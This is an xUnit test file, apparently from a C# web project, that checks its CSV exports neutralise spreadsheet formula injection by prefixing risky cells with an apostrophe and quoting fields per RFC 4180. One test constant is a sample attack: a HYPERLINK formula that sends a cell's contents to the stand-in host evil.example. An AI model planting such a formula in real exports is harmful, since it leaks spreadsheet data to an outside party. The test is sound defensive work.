using System.Net.Http.Json;
using System.Net;
using System.Text;
using Microsoft.Extensions.DependencyInjection;
using XpFlywheel.Web.Epochs;
using XpFlywheel.Web.Tests.Integration;

namespace XpFlywheel.Web.Tests.Epochs;

/// <summary>
/// CSV downloads open in spreadsheets, which run a cell starting with = + - @ (or tab, CR) as a formula. Every text
/// field that could be one is written with a leading ' (OWASP's rule); numbers stay numbers.
/// </summary>
public sealed class CsvExportTests : IDisposable
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"details\")";
    private const string EscapedFormula = "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"details\"\")\"";
    private const string ProviderEmail = "-2+3@test.local";
    private const string Password = "Operator1!";

    private readonly TestClock _clock = new(new DateTimeOffset(2027, 3, 1, 0, 0, 0, TimeSpan.Zero));
    private readonly ClockedAppFactory _factory;

    public CsvExportTests()
    {
        _factory = new ClockedAppFactory(_clock);
        _factory.Settings["Epochs:Length"] = "01:00:00";
    }

    public void Dispose() => _factory.Dispose();

    [Fact]
    public async Task Allocations_csv_escapes_text_that_a_spreadsheet_would_run_as_a_formula()
    {
        var client = _factory.CreateClient();
        await ClosedEpochWithFormulaNamesAsync();

        var csv = await client.GetStringAsync("/api/v1/epochs/1/allocations.csv");

        var line = Assert.Single(Records(csv).Skip(1));
        Assert.Equal(["1", "'" + Formula, "'-2+3"], [line[0], line[2], line[3]]);
        Assert.Contains(EscapedFormula + ",\"'-2+3\",3,", csv);
        Assert.Equal("1000000", line[^1]);
    }

    [Fact]
    public async Task Statement_csv_escapes_text_that_a_spreadsheet_would_run_as_a_formula()
    {
        await ClosedEpochWithFormulaNamesAsync();
        var browser = _factory.CreateBrowserlikeClient();
        await FormLogin.LoginAsync(browser, ProviderEmail, Password);

        var csv = await browser.GetStringAsync("/epochs/1/statement.csv");

        var line = Assert.Single(Records(csv).Skip(1));
        Assert.Equal("'" + Formula, line[2]);
        Assert.Contains("," + EscapedFormula + ",3,", csv);
    }

    /// <summary>A statement exists for a closed epoch only: an unknown, negative or still open epoch is 404, as the allocations CSV.</summary>
    [Fact]
    public async Task Statement_csv_of_an_epoch_that_is_not_closed_is_404()
    {
        await ClosedEpochWithFormulaNamesAsync();
        var browser = _factory.CreateBrowserlikeClient();
        await FormLogin.LoginAsync(browser, ProviderEmail, Password);

        var open = (await browser.GetFromJsonAsync<System.Text.Json.JsonElement>("/api/v1/epochs/current")).GetProperty("number").GetInt64();
        foreach (var number in new[] { "99999", "0", "-1", open.ToString() })
        {
            var response = await browser.GetAsync($"/epochs/{number}/statement.csv");
            Assert.True(response.StatusCode == HttpStatusCode.NotFound, $"{number}: {response.StatusCode}");
            Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        }
        Assert.Equal(HttpStatusCode.OK, (await browser.GetAsync("/epochs/1/statement.csv")).StatusCode);
    }

    [Fact]
    public void Csv_quotes_commas_quotes_and_line_breaks_and_keeps_negative_numbers_numeric()
    {
        var rows = new (string Text, decimal Number)[]
        {
            ("a,b", -1.5m),
            ("say \"hi\"", 0m),
            ("two\r\nlines", 2.25m),
            ("-1.5", -7m),
            ("@SUM(A1)", 1m),
            ("\tTab", 1m),
            ("plain", 1m),
        };

        var csv = CsvExport.Write(["text", "number"], rows, (writer, row) =>
        {
            writer.WriteText(row.Text);
            writer.WriteField(row.Number);
        });

        Assert.Equal(
            "text,number\r\n" +
            "\"a,b\",-1.5\r\n" +
            "\"say \"\"hi\"\"\",0\r\n" +
            "\"two\r\nlines\",2.25\r\n" +
            "\"'-1.5\",-7\r\n" +
            "\"'@SUM(A1)\",1\r\n" +
            "\"'\tTab\",1\r\n" +
            "\"plain\",1\r\n",
            csv);
        Assert.Equal(["two\r\nlines", "2.25"], Records(csv)[3]);
    }

    // A provider whose operator name (from the email) and agent name both start like formulas, paid in epoch 1.
    // The agent row is written directly: today's name rules refuse such a name, but rows from before them remain.
    private async Task ClosedEpochWithFormulaNamesAsync()
    {
        var services = _factory.Services;
        await services.GetRequiredService<EpochService>().Started.WaitAsync(TimeSpan.FromSeconds(30));
        var provider = await Operators.CreateAsync(services, ProviderEmail, Password);
        var agent = await EconomyRows.AgentAsync(services, provider, Formula);
        var buyer = await Operators.CreateAsync(services, "csv-buyer@test.local");
        await Operators.FundAsync(services, buyer, 1_000, 0);
        var buyerAgent = await EconomyRows.AgentAsync(services, buyer, "csv-buyer");
        for (var i = 0; i < 3; i++)
            await EconomyRows.JobAsync(services, (buyer, buyerAgent), (provider, agent), 10);
        _clock.Advance(TimeSpan.FromHours(2));
        await services.GetRequiredService<EpochService>().CloseDueAsync();
    }

    // RFC 4180 as a spreadsheet reads it: quoted fields may hold separators, doubled quotes and line breaks.
    private static List<string[]> Records(string csv)
    {
        var records = new List<string[]>();
        var fields = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c != '"')
                    field.Append(c);
                else if (i + 1 < csv.Length && csv[i + 1] == '"')
                    field.Append(csv[++i]);
                else
                    quoted = false;
            }
            else if (c == '"')
                quoted = true;
            else if (c == ',')
            {
                fields.Add(field.ToString());
                field.Clear();
            }
            else if (c == '\r' && i + 1 < csv.Length && csv[i + 1] == '\n')
            {
                fields.Add(field.ToString());
                field.Clear();
                records.Add([.. fields]);
                fields.Clear();
                i++;
            }
            else
                field.Append(c);
        }
        return records;
    }
}
